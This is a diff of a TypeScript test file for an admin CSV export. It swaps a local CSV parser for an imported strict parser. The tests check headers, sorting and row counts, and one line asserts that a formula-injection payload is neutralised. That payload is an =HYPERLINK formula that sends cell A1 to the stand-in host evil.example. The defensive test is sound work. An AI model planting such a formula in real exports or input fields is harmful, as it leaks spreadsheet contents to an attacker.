@@ -8,6 +8,7 @@ import {
   customer,
   uncheckedCarer,
 } from '../support/messaging-fixtures';
+import { parseCsvStrict } from '../support/line-formats';
 import { createTestApp, type TestApp } from '../support/test-app';
 import { submitValidChecks } from '../support/verification-fixtures';
 
@@ -52,36 +53,6 @@ async function everyId(base: string): Promise<string[]> {
     next = page.next;
   } while (next);
   return ids;
-}
-
-/** RFC 4180 as a spreadsheet reads it: quoted fields may hold commas, doubled quotes and line breaks. */
-function parseCsv(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let field = '';
-  let quoted = false;
-  for (let index = 0; index < text.length; index += 1) {
-    const char = text[index]!;
-    if (quoted) {
-      if (char === '"' && text[index + 1] === '"') {
-        field += '"';
-        index += 1;
-      } else if (char === '"') quoted = false;
-      else field += char;
-    } else if (char === '"') quoted = true;
-    else if (char === ',') {
-      row.push(field);
-      field = '';
-    } else if (char === '\r' && text[index + 1] === '\n') {
-      row.push(field);
-      rows.push(row);
-      row = [];
-      field = '';
-      index += 1;
-    } else field += char;
-  }
-  expect(field, 'the CSV ends with a line end').toBe('');
-  return rows;
 }
 
 const tagOf = (prefix: string) => `${prefix}${Date.now().toString(36)}`;
@@ -247,7 +218,7 @@ describe('the CSV export', () => {
     expect(response.headers['content-disposition']).toBe('attachment; filename="carematch-customers.csv"');
     expect(response.headers['cache-control']).toBe('no-store');
 
-    const rows = parseCsv(response.body);
+    const rows = parseCsvStrict(response.body);
     expect(rows[0]).toEqual(['Name', 'Email', 'Joined', 'Plan', 'Price', 'Expires', 'Billing', 'Suspended']);
     expect(rows.slice(1).every((row) => row.length === rows[0]!.length)).toBe(true);
     // Sorted by email: '@sum…' < 'cara…' < 'eve…'; the email starting with @ is guarded too.
@@ -275,7 +246,7 @@ describe('the CSV export', () => {
     expect(response.body).toContain(`"'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"") Smith${tag}"`);
 
     // Descending, and nothing but the search's matches.
-    const down = parseCsv((await get(`/api/admin/users/csv?q=${tag}&sort=email&order=desc`)).body);
+    const down = parseCsvStrict((await get(`/api/admin/users/csv?q=${tag}&sort=email&order=desc`)).body);
     expect(down.slice(1).map((row) => row[1])).toEqual([
       `eve.${tag}@example.org`,
       `cara.${tag}@example.org`,
@@ -298,7 +269,7 @@ describe('the CSV export', () => {
           role: row!.role,
         })),
       );
-    const rows = parseCsv((await get(`/api/admin/users/csv?q=${tag}&sort=name`)).body);
+    const rows = parseCsvStrict((await get(`/api/admin/users/csv?q=${tag}&sort=name`)).body);
     expect(rows.length).toBe(601);
     const names = rows.slice(1).map((r) => r[0]!);
     expect(new Set(names).size).toBe(600);
@@ -324,7 +295,7 @@ describe('the CSV export', () => {
     const response = await get(`/api/admin/carers/csv?q=${tag}&sort=name&order=desc`);
     expect(response.statusCode, response.body).toBe(200);
     expect(response.headers['content-disposition']).toBe('attachment; filename="carematch-carers.csv"');
-    const rows = parseCsv(response.body);
+    const rows = parseCsvStrict(response.body);
     expect(rows[0]).toEqual([
       'Name',
       'Email',
